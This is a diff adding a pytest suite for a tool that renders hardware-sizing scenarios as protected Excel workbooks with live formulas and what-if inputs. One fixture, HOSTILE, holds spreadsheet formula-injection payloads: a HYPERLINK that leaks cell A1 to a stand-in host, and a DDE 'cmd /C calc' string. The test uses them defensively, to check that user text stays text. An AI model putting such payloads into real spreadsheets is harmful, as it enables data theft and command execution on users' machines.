@@ -1,0 +1,375 @@
+"""The workbook: live formulas that LibreOffice recalculates to the engine's values, what-ifs, safety."""
+
+from __future__ import annotations
+
+import io
+import math
+import re
+import zipfile
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from helpers import ROOT, SCENARIOS, results_of
+from sizing.errors import OutputError
+from sizing.evaluate import Results, evaluate
+from sizing.render import workbook
+from sizing.render.workbook import (MASTER, RECOMMENDATION, REQUIREMENTS_MET, names_of, valid_name,
+                                    workbook_bytes, write_workbook)
+from sizing.scenario import load_scenario, load_scenario_bytes
+
+ERRORS = ("#NAME?", "#DIV/0!", "#REF!", "#VALUE!", "#N/A", "#NUM!", "#NULL!", "Err:")
+QUANTITY_KEY = re.compile(r"[a-z0-9._-]+/[^/]+/[a-z0-9_]+")
+
+
+@dataclass(frozen=True)
+class WhatIf:
+    """An input changed in the workbook, and the same change made to the scenario file."""
+
+    id: str
+    scenario: str
+    key: str                    # the input whose value cell is edited
+    new_value: Any              # in the unit the Inputs sheet shows
+    old_text: str               # the scenario text replaced ...
+    new_text: str               # ... by this
+
+
+WHAT_IFS = (
+    WhatIf("price-x2", "chat-70b-fp8", "device.mi300x.price", 3.70, "price: 1.85 USD/hour", "price: 3.70 USD/hour"),
+    WhatIf("utilisation", "chat-70b-fp8", "workload.chat.traffic.utilisation", 0.25, "utilisation: 50 %",
+           "utilisation: 25 %"),
+    WhatIf("batch-64", "chat-70b-fp8", "workload.chat.batch", 64, "batch: 16", "batch: 64"),
+    WhatIf("batch-32", "ref-7b-decode", "workload.decode-batch-64.batch", 32, "    batch: 64\n",
+           "    batch: 32\n"),
+)
+
+
+@dataclass
+class Case:
+    results: Results            # what the engine says
+    names: dict[str, str]       # key -> defined name
+    source: Path                # the workbook as written (formulas)
+    values: Path                # the workbook recalculated by LibreOffice
+
+
+def same(got: Any, want: Any) -> bool:
+    """A recalculated cell against an engine value: 1e-9 relative; LibreOffice may store TRUE as 1."""
+    if isinstance(want, bool):
+        return got is want or (type(got) in (int, float) and got in (0, 1) and bool(got) is want)
+    if isinstance(want, str):
+        return got == want
+    return (isinstance(got, (int, float)) and not isinstance(got, bool)
+            and math.isclose(got, want, rel_tol=1e-9, abs_tol=1e-300))
+
+
+def named_values(source: Path, values: Path) -> dict[str, Any]:
+    """Every defined name's value: where the name points in `source`, read from `values`."""
+    wb, got = openpyxl.load_workbook(source), openpyxl.load_workbook(values, data_only=True)
+    out = {}
+    for name, dn in wb.defined_names.items():
+        (sheet, coord), = dn.destinations
+        out[name] = got[sheet][coord.replace("$", "")].value
+    return out
+
+
+def edit_input(source: Path, name: str, value: Any, target: Path) -> None:
+    """Type a new value into the Inputs cell whose base value carries `name` (column B of its row)."""
+    wb = openpyxl.load_workbook(source)
+    (sheet, coord), = wb.defined_names[name].destinations
+    row = openpyxl.utils.cell.coordinate_from_string(coord.replace("$", ""))[1]
+    wb[sheet][f"B{row}"].value = value
+    wb.save(target)
+
+
+def changed(w: WhatIf, tmp: Path) -> Results:
+    """The engine's results for the scenario with the same change."""
+    text = (ROOT / "scenarios" / f"{w.scenario}.yaml").read_text()
+    assert text.count(w.old_text) == 1, w.old_text
+    path = tmp / f"{w.id}.yaml"
+    path.write_text(text.replace(w.old_text, w.new_text))
+    scn, problems = load_scenario(path)
+    assert scn is not None, problems
+    return evaluate(scn)
+
+
+@pytest.fixture(scope="module")
+def cases(recalc, tmp_path_factory) -> dict[str, Case]:
+    """Every shipped scenario and every what-if, recalculated by LibreOffice in one call."""
+    tmp = tmp_path_factory.mktemp("workbooks")
+    pending: dict[str, tuple[Results, Path]] = {}
+    for path in SCENARIOS:
+        r = results_of(path.stem)
+        out = tmp / f"{path.stem}.xlsx"
+        out.write_bytes(workbook_bytes(r))
+        pending[path.stem] = (r, out)
+    for w in WHAT_IFS:
+        r0, source = pending[w.scenario]
+        out = tmp / f"what-if-{w.id}.xlsx"
+        edit_input(source, names_of(r0)[w.key], w.new_value, out)
+        pending[w.id] = (changed(w, tmp), out)
+    done = recalc([out for _, out in pending.values()])
+    return {k: Case(r, names_of(r), out, got) for (k, (r, out)), got in zip(pending.items(), done)}
+
+
+def engine_values(r: Results, names: dict[str, str]) -> dict[str, Any]:
+    """name -> engine value, for every input and every quantity of every pair."""
+    out = {names[k]: i.value.value for k, i in r.inputs.items()}
+    out |= {names[x.key]: p.values[x.d.id] for p in r.pairs for x in p.present()}
+    return out
+
+
+def assert_matches_engine(case: Case) -> None:
+    got = named_values(case.source, case.values)
+    want = engine_values(case.results, case.names)
+    assert set(want) <= set(got)
+    wrong = {n: (got[n], v) for n, v in want.items() if not same(got[n], v)}
+    assert wrong == {}
+
+
+def assert_sweeps_match(case: Case) -> int:
+    """The live sweep grid against the engine's series: each column is headed by its quantity key,
+    each row starts with its swept value."""
+    ws = openpyxl.load_workbook(case.values, data_only=True)["Sweep"]
+    heads = {c.value: c for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and QUANTITY_KEY.fullmatch(c.value)}
+    checked = 0
+    for s in case.results.sweeps:
+        index = {x: i for i, x in enumerate(s.values)}
+        for device, series in s.series.items():
+            for qid, values in series.items():
+                head = heads.get(f"{s.workload}/{device}/{qid}")
+                if head is None:
+                    continue
+                got = [(ws.cell(r, 1).value, ws.cell(r, head.column).value)
+                       for r in range(head.row + 1, head.row + 1 + len(values))]
+                got = [(x, g) for x, g in got if isinstance(x, (int, float))]
+                wrong = [(x, g) for x, g in got if not same(g, values[index[x]].item())]
+                assert wrong == [], (qid, device)
+                checked += len(got)
+    return checked
+
+
+# -- LibreOffice recalculates every shipped scenario to the engine's values ---------------------
+@pytest.mark.parametrize("name", [p.stem for p in SCENARIOS])
+def test_every_named_cell_recalculates_to_the_engine(cases, name):
+    assert_matches_engine(cases[name])
+
+
+@pytest.mark.parametrize("name", [p.stem for p in SCENARIOS])
+def test_no_cell_holds_an_error(cases, name):
+    wb = openpyxl.load_workbook(cases[name].values, data_only=True)
+    errors = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
+              if c.data_type == "e" or (isinstance(c.value, str) and c.value.startswith(ERRORS))]
+    assert errors == []
+
+
+@pytest.mark.parametrize("name", [p.stem for p in SCENARIOS])
+def test_checks_and_decision_are_live(cases, name):
+    case = cases[name]
+    got = named_values(case.source, case.values)
+    assert got[MASTER] is True                     # the shipped scenarios are sane
+    fails = any(p.values.get(q) is False for p in case.results.pairs for q in ("fits", "meets_targets"))
+    assert same(got[REQUIREMENTS_MET], not fails)
+    decision = case.results.decision
+    if decision is not None:
+        want = decision["recommendation"] or "none: no option meets every requirement"
+        assert got[RECOMMENDATION] == want
+
+
+def test_a_failed_requirement_is_a_finding_not_a_failed_model(cases):
+    got = named_values(cases["ref-finetune-7b"].source, cases["ref-finetune-7b"].values)
+    assert got[MASTER] is True
+    assert got[REQUIREMENTS_MET] is False
+    assert same(got["full.accelerator.fits"], False)
+
+
+def test_live_sweep_grids_follow_the_engine(cases):
+    checked = {name: assert_sweeps_match(cases[name]) for name in ("chat-70b-fp8", "ref-7b-decode",
+                                                                     "ref-link-matmul")}
+    assert all(n > 0 for n in checked.values()), checked
+
+
+# -- what-if: an edited input cell recalculates like the engine on the edited scenario ---------
+@pytest.mark.parametrize("w", WHAT_IFS, ids=lambda w: w.id)
+def test_what_if_matches_the_engine_on_the_changed_scenario(cases, w):
+    before, after = cases[w.scenario], cases[w.id]
+    assert engine_values(after.results, after.names) != engine_values(before.results, before.names)
+    assert_matches_engine(after)
+    assert_sweeps_match(after)
+
+
+def test_doubling_a_price_changes_the_recommendation(cases):
+    before, after = cases["chat-70b-fp8"], cases["price-x2"]
+    assert before.results.decision["recommendation"] == "mi300x"
+    assert after.results.decision["recommendation"] == "gaudi3"
+    assert named_values(after.source, after.values)[RECOMMENDATION] == "gaudi3"
+
+
+def test_a_long_sweep_is_shown_as_evenly_spaced_live_rows(monkeypatch):
+    monkeypatch.setattr(workbook, "MAX_LIVE_ROWS", 5)
+    text = (ROOT / "scenarios" / "chat-70b-fp8.yaml").read_text()
+    text = re.sub(r"^sweep:.*$", "sweep: {batch: {from: 1, to: 12, points: 12}}", text, flags=re.M)
+    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(scenario_results(text))))
+    swept = [c.value for c in wb["Sweep"]["A"] if isinstance(c.value, (int, float))]
+    assert swept == [1, 4, 7, 9, 12]            # the first, the last, evenly spaced between
+    notes = [c.value for c in wb["README"]["B"] if isinstance(c.value, str)]
+    assert "The batch sweep of chat has 12 points; Sweep shows 5 of them, evenly spaced, as live rows." in notes
+
+
+def test_failed_requirements_are_listed_live(cases):
+    case = cases["batch-64"]                    # at batch 64 the KV cache outgrows some devices
+    ws = openpyxl.load_workbook(case.values, data_only=True)["Results"]
+    rows = {r[0].value: r for r in ws.iter_rows() if r[0].value in ("fails", "rank")}
+    devices = [c.value for c in next(r for r in ws.iter_rows() if r[1].value == "unit")[2:]]
+    live = {d: set(re.findall(r"(\w+) \(([^)]+)\)", c.value or "")) for d, c in zip(devices, rows["fails"][2:])}
+    ranking = case.results.decision["ranking"]
+    assert any(o["failures"] for o in ranking)
+    assert live == {o["device"]: {(f["quantity"], f["workload"]) for f in o["failures"]} for o in ranking}
+    ranks = {d: c.value for d, c in zip(devices, rows["rank"][2:])}
+    assert {o["device"]: o["rank"] for o in ranking if o["passes"]} == {d: r for d, r in ranks.items() if r}
+
+
+# -- names -------------------------------------------------------------------------------------
+def test_valid_name():
+    assert valid_name("dev.h100.price") and valid_name("chat.h100.step_time") and valid_name("_x")
+    for bad in ("h100", "b200", "A1", "XFD1048576", "R1C1", "r2c", "R", "C", "TRUE", "false", "1x", "a-b",
+                "a b", "x" * 256):
+        assert not valid_name(bad), bad
+
+
+@pytest.mark.parametrize("path", SCENARIOS, ids=lambda p: p.stem)
+def test_every_input_and_result_has_a_valid_unique_name(path):
+    r = results_of(path.stem)
+    names = names_of(r)
+    assert set(names) == set(r.inputs) | {x.key for p in r.pairs for x in p.present()}
+    assert all(valid_name(n) for n in names.values())
+    assert len({n.lower() for n in names.values()}) == len(names)
+    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(r)))
+    assert set(names.values()) | {MASTER, REQUIREMENTS_MET} <= set(wb.defined_names)
+
+
+COLLIDING = """\
+sizing: 1
+name: colliding-ids
+devices:
+  a-b: {compute: {fp32: 1 TFLOP/s}, memory: 8 GB, memory_bandwidth: 100 GB/s, price: 1 USD/hour}
+  a_b: {compute: {fp32: 2 TFLOP/s}, memory: 8 GB, memory_bandwidth: 100 GB/s, price: 2 USD/hour}
+  h100: {compute: {fp32: 3 TFLOP/s}, memory: 8 GB, memory_bandwidth: 100 GB/s, price: 3 USD/hour}
+workloads:
+  r1c1: {kind: matmul, m: 64, n: 64, k: 64}
+"""
+
+
+def scenario_results(text: str, name: str = "inline.yaml") -> Results:
+    scn, problems = load_scenario_bytes(text.encode(), name)
+    assert scn is not None, problems
+    return evaluate(scn)
+
+
+def test_ids_that_collide_or_look_like_cells_get_distinct_valid_names():
+    names = names_of(scenario_results(COLLIDING))
+    assert names["device.a-b.price"] == "dev.a_b.price"
+    assert names["device.a_b.price"] == "dev.a_b.price_2"
+    assert names["device.h100.price"] == "dev.h100.price"
+    assert names["r1c1/a-b/flops"] == "r1c1.a_b.flops"
+    assert names["r1c1/a_b/flops"] == "r1c1.a_b.flops_2"
+    assert all(valid_name(n) for n in names.values())
+
+
+# -- user text is data, never a formula -----------------------------------------------------------
+HOSTILE = """\
+sizing: 1
+name: hostile
+title: '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'
+description: '=1+1'
+owner: '@SUM(1)'
+devices:
+  gpu:
+    name: '+cmd|'' /C calc''!A0'
+    compute: {fp32: 10 TFLOP/s}
+    memory: 16 GB
+    memory_bandwidth: 500 GB/s
+    price: 1 USD/hour
+    source: '=HYPERLINK("http://example.invalid")'
+workloads:
+  mm: {kind: matmul, title: '-2+3', m: 256, n: 256, k: 256}
+"""
+
+
+def test_user_text_that_looks_like_a_formula_stays_text():
+    data = workbook_bytes(scenario_results(HOSTILE))
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
+    formulas = re.findall(r"<f>(.*?)</f>", xml)
+    assert formulas and not any(bad in f for f in formulas for bad in ("HYPERLINK", "1+1", "SUM", "cmd", "2+3"))
+    texts = re.findall(r"<t>(.*?)</t>", xml)
+    for hostile in ('=HYPERLINK("http://example.invalid/?leak="&amp;A1,"click me")', "=1+1", "@SUM(1)"):
+        assert hostile in texts, hostile
+    for inside in ('=HYPERLINK("http://example.invalid")', "+cmd|' /C calc'!A0", "-2+3"):
+        assert any(inside in t for t in texts), inside
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    title = wb["README"]["A1"]
+    assert (title.data_type, title.quotePrefix, title.value[:11]) == ("s", True, "=HYPERLINK(")
+    sources = [c for row in wb["Inputs"].iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
+    assert sources and all(c.data_type == "s" and c.quotePrefix for c in sources)
+
+
+# -- structure, styling, reproducibility ------------------------------------------------------------
+def test_only_inputs_are_unlocked_and_every_sheet_is_protected():
+    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(results_of("chat-70b-fp8"))))
+    assert wb.sheetnames == ["README", "Inputs", "Calc", "Results", "Sweep", "Checks", "Roofline"]
+    assert all(ws.protection.sheet for ws in wb)
+    unlocked = {(ws.title, c.column_letter) for ws in wb for row in ws.iter_rows() for c in row
+                if c.value is not None and not c.protection.locked}
+    assert unlocked == {("Inputs", "B"), ("Sweep", "A")}
+    inputs = wb["Inputs"]
+    validated = {(col, row) for dv in inputs.data_validations.dataValidation for rng in dv.sqref.ranges
+                 for col in range(rng.min_col, rng.max_col + 1) for row in range(rng.min_row, rng.max_row + 1)}
+    editable = {(c.column, c.row) for row in inputs.iter_rows() for c in row
+                if c.value is not None and not c.protection.locked}
+    assert validated == editable
+
+
+def test_inputs_are_shown_in_the_unit_the_user_wrote():
+    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(results_of("chat-70b-fp8"))))
+    names = names_of(results_of("chat-70b-fp8"))
+    rows = {}
+    for key in ("device.h100.price", "device.h100.memory_bandwidth", "workload.chat.traffic.utilisation"):
+        (sheet, coord), = wb.defined_names[names[key]].destinations
+        row = int(re.sub(r"\D", "", coord))
+        rows[key] = [wb[sheet].cell(row, c).value for c in range(2, 6)]
+    assert rows["device.h100.price"][:3] == [2.5, "USD/hour", "=1/3600"]
+    assert rows["device.h100.memory_bandwidth"][:3] == [3.35, "TB/s", 1e12]
+    assert rows["workload.chat.traffic.utilisation"][:3] == [0.5, "%", 1]
+    assert all(r[3].startswith("=B") for r in rows.values())
+
+
+def test_results_convert_to_display_units():
+    r = results_of("chat-70b-fp8")
+    ws = openpyxl.load_workbook(io.BytesIO(workbook_bytes(r)))["Results"]
+    cells = {row[0].value: row for row in ws.iter_rows() if row[0].value in ("step_time", "monthly_cost")}
+    assert cells["step_time"][2].value == "=chat.h100.step_time/0.001"
+    assert cells["step_time"][2].number_format == '#,##0.000" ms"'     # 9.895 ms on b200
+    assert cells["monthly_cost"][2].number_format.startswith('"$"#,##0')
+
+
+def test_same_scenario_same_bytes():
+    r = results_of("chat-70b-fp8")
+    first, second = workbook_bytes(r), workbook_bytes(results_of("chat-70b-fp8"))
+    assert first == second
+    with zipfile.ZipFile(io.BytesIO(first)) as z:
+        assert {i.date_time for i in z.infolist()} == {(2026, 12, 2, 0, 0, 0)}
+        assert b"2026-12-02T00:00:00Z" in z.read("docProps/core.xml")
+
+
+def test_write_workbook_refuses_to_overwrite_the_scenario(tmp_path):
+    src = tmp_path / "s.yaml"
+    src.write_text(COLLIDING)
+    scn, _ = load_scenario(src)
+    with pytest.raises(OutputError):
+        write_workbook(evaluate(scn), src)
+    write_workbook(evaluate(scn), tmp_path / "out.xlsx")
+    assert zipfile.is_zipfile(tmp_path / "out.xlsx")
